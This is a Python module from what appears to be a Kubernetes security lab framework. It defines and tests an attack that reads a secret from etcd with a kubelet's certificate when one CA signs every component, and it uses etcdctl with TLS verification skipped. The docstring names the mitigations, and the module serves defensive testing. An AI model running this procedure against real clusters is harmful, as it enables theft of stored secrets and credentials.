"""Read a secret from etcd with the certificate of a kubelet.

If one CA signs for all components, TLS tells etcd only that the caller has some certificate of
the cluster. The attacker needs the certificate and key of a kubelet, on the worker or as a copy.
They ask etcd for a secret and read it if etcd accepts the certificate and has no users. A CA of
its own for etcd stops it at the handshake, and users in etcd stop it at the request.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Foothold, Model
from labkit.model.etcd_rights import KeyRange
from labkit.model.rights import trusted_by
from labkit.techniques._lib.api.component_credential import WORKER, credential_options
from labkit.techniques._lib.machines.reach import address_in_lab, request, run_from
from labkit.techniques._lib.stores.etcd import (
    API,
    NO_USER,
    as_apiserver,
    client_channel,
    encode,
    etcdctl,
    may,
    stores_plaintext,
)
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    COPIED_CREDENTIAL,
    ROOT_ON_WORKER,
    SECRETS,
    Prediction,
    Technique,
    all_of,
    any_of,
    holds,
    then,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

CHANNEL = "kube-apiserver@* -> etcd@*"
WANTED = ("payments", "card-processor", "api-key")
KEY = "/registry/secrets/payments/card-processor"
#: etcd's errors for a name that is not one of its users, and for a caller without a name.
REFUSALS = ("permission denied", NO_USER)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict from the CA that etcd trusts, from its users and from encryption at rest."""
    channel = model.open_channels(CHANNEL)[0]
    credential = model.environment.credential("kubelet", WORKER)
    trusted = model.environment.component(channel.server).setting("trusted-ca-file")
    known = credential is not None and (
        credential.signed_by in trusted_by(model.environment, trusted.value)
    )
    opened = any_of(
        Prediction(known, (f"trusts {trusted.value} only: {trusted.source}",)),
        holds(channel.encryption, "none"),
        holds(channel.client_authentication, "none"),
    )
    reads = may(model, channel, credential, "read", KeyRange.one(KEY))
    reached = all_of(opened, reads)
    return then(reached, stores_plaintext(model))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Call etcd with the kubelet's certificate, and ask for a secret if TLS accepts it."""
    secret = true_secret(lab, *WANTED)
    channel = client_channel(lab)
    server = channel.server_node
    endpoint = f"{channel.protocol}://{server}:{channel.port}"
    shown = f"with the certificate of {WORKER}'s kubelet"
    if channel.protocol == "http":
        shown = "over plain HTTP, which asks for no client certificate"
    evidence = [f"asked {channel.server} for {KEY}, {shown}"]
    with credential_options(lab, foothold, "kubelet") as options:
        # curl shows the TLS alert; etcd maps a certificate to a user for gRPC calls only, not JSON
        body = f'{{"key": "{encode(KEY.encode())}"}}'.encode()
        tls_answer = request(
            lab, f"{endpoint}{API}/range", foothold=foothold, body=body, options=options
        )
        reason, value = tls_answer.refusal, b""
        if not reason.startswith("TLS alert"):
            reason, value = _get(lab, foothold, endpoint, options)
    if secret.found_in(value):
        evidence.append(f"read: {secret.proof}")
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "etcd gives it", tuple(evidence))
    if not reason:
        raise ProbeError(f"{channel.server} answered, but not with {secret}")
    if as_apiserver(lab, "get", KEY, "--keys-only").split() != [KEY]:
        raise ProbeError(f"positive control: the apiserver cannot read {KEY} from etcd")
    control = "with the apiserver's certificate, the same member gives the key"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)


def _get(lab: Lab, foothold: Foothold, endpoint: str, options: Sequence[str]) -> tuple[str, bytes]:
    """Ask for the key with etcdctl; return the reason of a refusal, and the value."""
    address_in_lab(lab, endpoint.partition("://")[2].rpartition(":")[0])
    argv = [*etcdctl(lab), f"--endpoints={endpoint}", "get", KEY]
    if endpoint.startswith("https") and options:
        argv += ["--insecure-skip-tls-verify", *options]
    output = run_from(lab, foothold, [*argv, "--print-value-only"])
    said = output.error.strip().splitlines()[-2:]
    if "context deadline exceeded" in output.error:
        raise ProbeTimeout(f"{endpoint} did not answer", evidence=said)
    if output.exit_code:
        reason = next((word for word in REFUSALS if word in output.error), "")
        if not reason:
            raise ProbeError("etcd gave neither the value nor a known refusal", evidence=said)
        return f"etcd: {reason}", b""
    if output.stdout.startswith(b"k8s:enc:"):
        return "the value is a ciphertext", b""
    return "", output.stdout


def _settings(env: Environment) -> list[Setting]:
    """Return the CA that etcd trusts for its clients."""
    found = [c.setting("trusted-ca-file") for c in env.components if c.kind == "etcd"]
    return [("whom etcd trusts", item.value or "anybody", str(item.source)) for item in found[:1]]


TECHNIQUE = Technique(
    name="etcd-any-certificate",
    title="Open etcd with a kubelet's certificate",
    footholds=(ROOT_ON_WORKER, COPIED_CREDENTIAL),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1552.004", "T1552.007"),
    stride=("spoofing", "information disclosure"),
    cwe=("CWE-295", "CWE-653"),
    sources=(
        "Securing communications in Kubernetes (2016), etcd",
        "https://kubernetes.io/docs/setup/best-practices/certificates/",
        "https://attack.mitre.org/techniques/T1552/004/",
    ),
    predict=predict,
    execute=execute,
    leaves=("file",),
    settings=_settings,
)
